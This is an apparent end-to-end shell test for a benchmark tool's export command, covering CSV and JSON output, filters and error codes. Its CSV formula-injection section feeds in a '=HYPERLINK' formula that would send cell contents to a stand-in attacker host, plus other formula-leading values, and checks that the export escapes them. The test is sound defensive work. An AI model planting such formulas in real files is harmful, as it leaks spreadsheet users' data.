#!/usr/bin/env bash
# End to end: `qbdb export` as a user runs it - CSV and JSON to a file or standard output, the
# filters, and the usage and write errors with their exit codes.
source "$(dirname "$0")/lib.bash"

run 0 "$QBDB" ingest --project py --commit aaaa1111 "$DATA/pytest/run1/benchmark.json"
run 0 "$QBDB" ingest --project py --commit bbbb2222 "$DATA/pytest/run2/benchmark.json"
run 0 "$QBDB" ingest --project rs --commit cccc3333 "$DATA/criterion/run1/target/criterion"

run 0 "$QBDB" export --out "$TMP/all.csv"
contains "$ERR" "exported 3 runs to $TMP/all.csv" "export says what it wrote"
equals "$(head -n 1 "$TMP/all.csv")" \
  "run_id,project,branch,machine,commit,commit_time,started_at,benchmark,group,params,metric,unit,direction,n,min,max,mean,median,stddev,p95,p99,q1,q3,outliers,estimate,ci_lo,ci_hi" \
  "the CSV header"
equals "$(tail -n +2 "$TMP/all.csv" | wc -l)" 26 "9 + 9 + 8 results (a Criterion throughput too)"
# --samples: one lean row per raw sample, keyed as its result is in the results export (issue 16:
# the 27 summary columns are no longer repeated on every sample)
run 0 "$QBDB" export --project py --samples
equals "$(head -n 1 <<<"$OUT")" "run_id,benchmark,metric,sample,value,iterations" "the samples header"
# 4066 + 3890 samples (docs: one row per sample)
equals "$(($(wc -l <<<"$OUT") - 1))" 7956 "one row per sample"
# the first round of tests/data/pytest/run1/benchmark.json: benchmarks[0] test_sum_squares[10],
# stats.data[0] = 3.0035979999638586e-07 s per iteration, 10000 iterations a round; in ns
# python3 -c 'print(repr(3.0035979999638586e-07 * 1e9))' gives 300.35979999638585
equals "$(sed -n 2p <<<"$OUT")" "1,test_sum_squares[10],latency,0,300.35979999638585,10000" \
  "a sample row: run, benchmark, metric, index, the value pytest-benchmark wrote, iterations"
samples_py=$OUT
# every stored sample, one row each: as many as `qbdb db info` counts
run 0 "$QBDB" export --samples --out "$TMP/samples.csv"
stored=$("$QBDB" db info | sed -n 's/^raw samples *//p')
equals "$(($(wc -l <"$TMP/samples.csv") - 1))" "$stored" "as many rows as stored samples ($stored)"
# joined with the results export on (run_id, benchmark, metric): every sample row finds its
# result, and each result has as many rows as the samples its n summarises (pytest: the rounds)
if command -v python3 >/dev/null; then
  run 0 "$QBDB" export --project py
  printf '%s\n' "$OUT" >"$TMP/results_py.csv"
  printf '%s\n' "$samples_py" >"$TMP/samples_py.csv"
  equals "$(python3 - "$TMP/results_py.csv" "$TMP/samples_py.csv" <<'PY'
import collections, csv, sys
res = {(r["run_id"], r["benchmark"], r["metric"]): r for r in csv.DictReader(open(sys.argv[1]))}
count = collections.Counter((r["run_id"], r["benchmark"], r["metric"])
                            for r in csv.DictReader(open(sys.argv[2])))
print(all(k in res for k in count), all(count[k] == int(r["n"]) for k, r in res.items()), len(res))
PY
)" "True True 18" "the samples join their 18 results on run_id, benchmark, metric"
fi

# progress: on a terminal (script(1) gives the command a pty) stderr shows the runs written,
# rewritten in place with a carriage return and ended by a newline; never in a pipe or a file
if command -v script >/dev/null; then
  script -qc "'$QBDB' export --samples --out '$TMP/tty.csv'" /dev/null >"$TMP/tty.out" </dev/null
  tty_out=$(tr '\r' '|' <"$TMP/tty.out")
  contains "$tty_out" "|export: 0/3 runs|export: 1/3 runs|export: 2/3 runs|export: 3/3 runs|"$'\n' \
    "progress on a terminal: runs done / total, in place, a final newline"
  contains "$tty_out" "exported 3 runs to $TMP/tty.csv" "then what was written"
  cmp -s "$TMP/tty.csv" "$TMP/samples.csv" || fail "the export on a terminal differs from the one in a pipe"
fi
run 0 "$QBDB" export --samples --out "$TMP/pipe.csv"
equals "$ERR" "exported 3 runs to $TMP/pipe.csv" "no progress when stderr is not a terminal"
"$QBDB" export --samples 2>&1 >/dev/null | cat >"$TMP/pipe.err"
equals "$(cat "$TMP/pipe.err")" "" "no progress into a pipe"
run 0 "$QBDB" export --format json --project rs
equals "$(jq '.runs | length' <<<"$OUT")" 1 "json: one run"
equals "$(jq -r '.runs[0].commit' <<<"$OUT")" cccc3333 "json: its commit"
run 0 "$QBDB" export --since 2099-01-01
equals "$(wc -l <<<"$OUT")" 1 "nothing since 2099: the header alone"

# CSV formula injection (OWASP): text cells starting with =, +, -, @, tab or CR get a leading
# apostrophe (inside the quotes when quoted); numbers, negative ones included, stay numbers
printf '%s\n' '{"format":"qbdb-native","version":1,"project":"csv","branch":"-b","machine":"@m","commit":"aaaa0001"}' \
  '{"name":"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")","group":"+grp","unit":"ns","value":5}' \
  '{"name":"delta","metric":"change","unit":"1","samples":[-5,-1.5,2]}' \
  '{"name":"-2+3","unit":"ns","value":1}' \
  '{"name":"@SUM(A1)","unit":"ns","value":1}' \
  '{"name":"\tTAB","unit":"ns","value":1}' \
  '{"name":"\rCR","unit":"ns","value":1}' \
  '{"name":"safe=1","unit":"ns","value":1}' >"$TMP/formula.jsonl"
run 0 "$QBDB" ingest "$TMP/formula.jsonl"
run 0 "$QBDB" export --project csv
csv=$OUT
contains "$csv" $'\n'"4,csv,'-b,'@m,aaaa0001," "branch and machine: apostrophe"
contains "$csv" ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",'+grp,," "a formula name: quoted, apostrophe"
contains "$csv" ",'-2+3,,,latency," "a name starting with -"
contains "$csv" ",'@SUM(A1),,," "a name starting with @"
contains "$csv" ",'"$'\t'"TAB,,," "a name starting with a tab"
contains "$csv" ",\"'"$'\r'"CR\",,," "a name starting with CR: quoted, apostrophe"
contains "$csv" ",safe=1,,," "= elsewhere: unchanged"
contains "$csv" ",delta,,,change,1,lower,3,-5,2,-1.5,-1.5," "negative numbers stay numbers"
# every data row still has 27 fields (python's csv reader, as a spreadsheet would split them)
if command -v python3 >/dev/null; then
  equals "$(python3 -c 'import csv,sys; print(sorted({len(r) for r in csv.reader(sys.stdin)}))' <<<"$csv")" \
    "[27]" "every row 27 fields"
fi
run 0 "$QBDB" trend --project csv --format csv delta
contains "$OUT" $'\n'"4,aaaa0001," "trend csv: the commit as it is"

run 2 "$QBDB" export --format xml
one_line "$ERR" "bad format message"
contains "$ERR" "--format 'xml': expected csv or json" "bad format"
run 2 "$QBDB" export --since yesterday
contains "$ERR" "--since 'yesterday'" "bad since"
run 6 "$QBDB" export --out "$TMP/no/such/dir/x.csv"
contains "$ERR" "$TMP/no/such/dir/x.csv" "unwritable --out names the file"
finish
